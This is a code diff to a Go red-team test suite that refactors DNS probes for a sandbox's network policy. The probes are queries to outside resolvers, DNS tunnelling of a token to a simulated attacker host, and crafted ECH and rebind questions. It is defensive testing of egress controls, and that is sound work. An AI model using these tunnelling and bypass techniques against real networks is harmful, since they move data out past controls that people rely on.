@@ -13,15 +13,18 @@ import (
 	"github.com/custody-project/custody/redteam/simnet"
 )
 
-// names adds the probes of DNS: other resolvers, and the sandbox's resolver as a tunnel.
-func (c *catalogue) names() {
+// nameProbes are the probes of DNS.
+type nameProbes struct{ *catalogue }
+
+// all adds the probes of DNS: other resolvers, and the sandbox's resolver as a tunnel.
+func (c nameProbes) all() {
 	c.otherResolvers()
 	c.tunnels()
 	c.questions()
 }
 
 // otherResolvers adds DNS queries to resolvers other than the sandbox's.
-func (c *catalogue) otherResolvers() {
+func (c nameProbes) otherResolvers() {
 	ask := func(proto string, port int, to func(Family) netip.Addr) func(Family) Probe {
 		return func(v Family) Probe {
 			t := &task{Do: "talk", Host: to(v).String(), Family: v.number(), Port: port, Proto: proto}
@@ -58,7 +61,7 @@ func (c *catalogue) otherResolvers() {
 }
 
 // tunnels adds queries that exfiltrate data through the sandbox's resolver.
-func (c *catalogue) tunnels() {
+func (c nameProbes) tunnels() {
 	c.add(Probe{
 		ID: "dns/resolve-first", Title: "have a name resolved that is denied only at the connection", Bypass: ResolveFirst,
 		task: &task{Do: "talk", Name: c.token() + "." + simnet.Attacker, Port: 80, Send: once("GET / HTTP/1.1\r\n\r\n")},
@@ -94,7 +97,7 @@ func (c *catalogue) tunnels() {
 }
 
 // questions adds queries that a resolver may misread.
-func (c *catalogue) questions() {
+func (c nameProbes) questions() {
 	c.ask("dns/ech-gateway", "an HTTPS question, for the key of ECH, for a name through the gateway", ECH, "udp", func(token string) []byte {
 		return question("ech-"+token+"."+simnet.Rebind, dns.TypeHTTPS, false)
 	}).proof = asked
@@ -146,7 +149,7 @@ var optionData = []string{simnet.Attacker4.String(), "64617461"}
 
 // ask adds a query to the sandbox's resolver, which must not answer it, and returns
 // the probe.
-func (c *catalogue) ask(id, title string, bypass Bypass, proto string, packet func(token string) []byte) *Probe {
+func (c nameProbes) ask(id, title string, bypass Bypass, proto string, packet func(token string) []byte) *Probe {
 	c.add(Probe{ID: id, Title: title, Bypass: bypass, check: noAnswer, task: &task{
 		Do: "talk", Host: netpolicy.Gateway4.String(), Family: 4, Port: netpolicy.ResolverPort, Proto: proto, Send: []piece{{Data: packet(c.token())}},
 	}})
